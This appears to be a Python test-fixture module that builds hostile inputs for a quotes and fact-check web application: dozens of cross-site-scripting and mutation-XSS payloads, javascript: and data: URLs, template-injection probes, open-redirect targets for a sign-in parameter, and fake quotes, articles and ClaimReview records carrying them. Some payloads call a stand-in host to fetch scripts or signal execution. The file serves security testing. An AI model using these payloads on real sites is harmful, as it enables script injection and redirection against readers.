"""Attacks on readers of a page: each would leave a trace that `Detector` sees, if it ran.

`RUN` stands for a script that does all that is watched, with the number of its attack.
"""

from __future__ import annotations

from collections.abc import Mapping
from html import escape
from typing import Any, Final

ELSEWHERE: Final = "https://elsewhere.example"
RUN: Final = "window.__ran=1;alert(1);fetch('https://elsewhere.example/ran')"
RUN_QUOTED: Final = RUN.replace("'", "&#39;")

#: Words that are stored or typed, by what they try.
MARKUP: Final[dict[str, str]] = {
    "script": f"<script>{RUN}</script>",
    "script in odd letters": f"<ScRiPt/x>{RUN}</sCrIpT >",
    "script from elsewhere": f"<script src={ELSEWHERE}/x.js></script>",
    "module from elsewhere": f'<script type=module>import "{ELSEWHERE}/m.js"</script>',
    "script left open": f"<script>{RUN}//",
    "script in a script": f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "image": f'<img src=x onerror="{RUN}">',
    "image left open": f'<img src=x onerror="{RUN}"',
    "image with a slash": f"<img/src=x/onerror={RUN}>",
    "svg": f'<svg onload="{RUN}">',
    "svg script": f"<svg><script>{RUN}</script></svg>",
    "svg animation": f'<svg><animate onbegin="{RUN}" attributeName=x dur=1s>',
    "svg link": f'<svg><a xlink:href="javascript:{RUN}"><text y=20>x</text></a></svg>',
    "svg use": "<svg><use href=\"data:image/svg+xml,<svg id='x'><script>alert(1)</script></svg>#x\"/></svg>",
    "foreign object": f'<svg><foreignObject><iframe onload="{RUN}"></iframe></foreignObject></svg>',
    "mathml": f'<math href="javascript:{RUN}">x</math>',
    "mathml action": f'<math><maction actiontype="statusline" xlink:href="javascript:{RUN}">x</maction></math>',
    "mutation by mathml": (
        "<math><mtext><table><mglyph><style><!--</style>"
        f'<img title="--&gt;&lt;img src=1 onerror={RUN_QUOTED}&gt;">'
    ),
    "mutation by noscript": f'<noscript><p title="</noscript><img src=x onerror={RUN_QUOTED}>">',
    "mutation by template": f'<template><p title="</template><img src=x onerror={RUN_QUOTED}>"></template>',
    "mutation by select": f"<select><template><img src=x onerror={RUN_QUOTED}></template></select>",
    "mutation by namespaces": f'<svg></p><style><a id="</style><img src=1 onerror={RUN_QUOTED}>">',
    "declarative shadow root": f'<div><template shadowrootmode=open><img src=x onerror="{RUN}"></template></div>',
    "end of textarea": f"</textarea><script>{RUN}</script>",
    "end of title": f"</title></head><script>{RUN}</script>",
    "end of style": f"</style><script>{RUN}</script>",
    "end of script": f"</script><script>{RUN}</script>",
    "end of comment": f"--><script>{RUN}</script><!--",
    "end of attribute": f'"><img src=x onerror="{RUN}">',
    "end of single quotes": f"' autofocus onfocus='{RUN}' x='",
    "more attributes": f'" autofocus tabindex=1 onfocus="{RUN}" x="',
    "backticks": f"`onmouseover={RUN}`",
    "link": f'<a href="javascript:{RUN}" autofocus>read on</a>',
    "link with a tab": f'<a href="java\tscript:{RUN}">read on</a>',
    "link with entities": f'<a href="&#106;avascript:{RUN_QUOTED}">read on</a>',
    "frame": f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    "frame by address": f'<iframe src="javascript:parent.{RUN}"></iframe>',
    "frame elsewhere": f"<iframe src={ELSEWHERE}></iframe>",
    "object": '<object data="data:text/html,<script>parent.alert(1)</script>"></object>',
    "embed": '<embed src="data:text/html,<script>parent.alert(1)</script>">',
    "form": f'<form action={ELSEWHERE}><button autofocus formaction="javascript:{RUN}">Sign in</button>',
    "focus": f'<input autofocus onfocus="{RUN}">',
    "toggle": f'<details open ontoggle="{RUN}"><summary>x</summary></details>',
    "media": f'<video><source onerror="{RUN}"></video><audio src=x onerror="{RUN}">',
    "body": f'<body onload="{RUN}" onpageshow="{RUN}">',
    "refresh": f'<meta http-equiv=refresh content="0;url={ELSEWHERE}">',
    "base": f'<base href="{ELSEWHERE}/">',
    "style sheet": f'<link rel=stylesheet href={ELSEWHERE}/x.css><style>@import "{ELSEWHERE}/y.css";</style>',
    "style attribute": f'<p style="background:url({ELSEWHERE}/z);position:fixed;inset:0">over all</p>',
    "marquee": f'<marquee onstart="{RUN}">x</marquee>',
    "popover": f'<button popovertarget=x>y</button><p popover id=x onbeforetoggle="{RUN}">z</p>',
    "cdata": f"<![CDATA[<script>{RUN}</script>]]>",
    "processing instruction": f'<?xml-stylesheet href="javascript:{RUN}"?>',
    "encoded once": f"&lt;script&gt;{RUN}&lt;/script&gt;",
    "encoded twice": f"&amp;lt;script&amp;gt;{RUN}&amp;lt;/script&amp;gt;",
    "utf-7": f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    "wide letters": f"＜script＞{RUN}＜/script＞",
    "right to left": f"\u202e\u2066<script>{RUN}</script>\u2069\u202ctpircs",
    "marks without end": "\u202e\u2067\u202b" * 20 + "said nobody",
    "invisible letters": f"<\u200bscript>{RUN}</\u200bscript><\ufeffimg src=x onerror={RUN}>",
    "combining letters": "Z" + "\u0300\u0301\u0302" * 200,
    "null bytes": f"<scr\x00ipt>{RUN}</scr\x00ipt><img src=x \x00onerror={RUN}>",
    "null bytes by entity": f"&#0;<scr&#0;ipt>{RUN}</scr&#0;ipt>",
    "line separators": f"\u2028\u2029;{RUN}//",
    "template language": "{{ config }} {{ 7 * 7 }} {% raw %} ${7*7} #{7*7} <%= 7*7 %>",
    "clobbered names": "<form id=main name=cookie><input name=attributes><a id=keys><a id=reviews name=csrf-token>",
    "comment left open": "<!-- everything behind this",
    "textarea left open": "<textarea><plaintext>",
    "data of a script": '</script>{"a":"\\u003c/script\\u003e","__proto__":{"x":1}}',
}
#: What is no address of the web, given where one is shown as a link.
ADDRESSES: Final[dict[str, str]] = {
    "javascript": f"javascript:{RUN}",
    "javascript in odd letters": "JaVaScRiPt://x%0aalert(1)",
    "javascript behind a blank": " javascript:alert(1)",
    "data": "data:text/html,<script>alert(1)</script>",
    "vbscript": "vbscript:msgbox(1)",
    "blob": "blob:https://elsewhere.example/1",
    "view-source": "view-source:javascript:alert(1)",
    "end of attribute": f'https://elsewhere.example/" onclick="{RUN}" x="',
    "without a scheme": "//elsewhere.example/x",
}
KINDS: Final = ("old", "red", "stone", "narrow", "quiet", "western", "painted", "wooden")
BUILDINGS: Final = (
    "warehouse", "lighthouse", "ferry landing", "dry dock", "customs house", "fish market", "shipyard",
    "rope walk", "grain silo",
)  # fmt: skip
#: Where nobody may be sent after signing in.
NEXT: Final = (
    "https://elsewhere.example/",
    "//elsewhere.example/",
    "/\\elsewhere.example/",
    "/\t/elsewhere.example/",
    "\\\\elsewhere.example",
    "javascript:alert(1)",
    "/dashboard/static/x/y",
    "/v1/quotes",
    "/sign-out",
    '/search"><script>alert(1)</script>',
    "http:elsewhere.example",
    "/./@elsewhere.example/%2e%2e",
)


def storable(payload: str) -> str:
    """The payload as the API takes it: it refuses U+0000, which no database holds."""
    return payload.replace("\x00", "\ufffd")


def attack_words(number: int) -> str:
    """What somebody really said, for an attack to misquote; no two are about the same building."""
    building = f"{KINDS[number % len(KINDS)]} {BUILDINGS[number // len(KINDS) % len(BUILDINGS)]}"
    return f"The council will never sell the {building} to a company that cannot show us who owns it"


def attack_quote(number: int, payload: str, address: str) -> dict[str, Any]:
    """An earlier quote whose every text is hostile."""
    return {
        "text": f"{attack_words(number)} {payload}",
        "speaker": f"Ann Marlow {payload}"[:1900],
        "said_at": "2026-10-01",
        "source": {
            "uri": address or f"urn:attack:{number}",
            "title": f"Speech {payload}",
            "publisher": f"Paper {payload}",
            "published_at": "2026-10-01",
            "kind": "speech",
        },
    }


def attack_article(numbered: Mapping[int, str], form: str) -> dict[str, Any]:
    """An article that misquotes these, in plain text, HTML or Markdown, and is hostile in all it says of itself."""
    number, payload = next(iter(numbered.items()))
    body = "\n\n".join(attack_paragraph(*one) for one in numbered.items())
    said = "\n\n".join(f"{one}\n\n“{one},” said Bob Reyes." for one in numbered.values())
    return {
        "uri": f"https://attacks.example/{number}?{payload}"[:1900],
        "headline": f"Berth {number} {' '.join(numbered.values())}"[:1900],
        "byline": f"By {payload}"[:1900],
        "publisher": f"Paper {number} {payload}"[:1900],
        "published_at": "2026-11-20",
        f"body_{form}": f"{body if form == 'text' else paragraphs(body)}\n\n{said}",
    }


def paragraphs(body: str) -> str:
    """The text as HTML, in which markup is words; Markdown takes it as it is."""
    return "\n\n".join(f"<p>{escape(part)}</p>" for part in body.split("\n\n"))


def attack_paragraph(number: int, payload: str) -> str:
    """What somebody really said, misquoted, without and with hostile words in it."""
    words = attack_words(number).replace("never ", "")
    return f"“{words},” Ann Marlow said on Monday.\n\n“{words} {payload},” Ann Marlow {payload} said again."


def attack_factcheck(number: int, payload: str, address: str) -> dict[str, Any]:
    """A published fact-check of the same words, hostile too."""
    return {
        "@type": "ClaimReview",
        "url": address,
        "claimReviewed": f"{attack_words(number).replace('never ', '')} {payload}",
        "datePublished": "2026-11-01",
        "author": {"@type": "Organization", "name": f"Checks {payload}", "url": address},
        "reviewRating": {"@type": "Rating", "alternateName": f"False {payload}"},
        "itemReviewed": {"@type": "Claim", "author": {"@type": "Person", "name": f"Ann {payload}"}},
    }
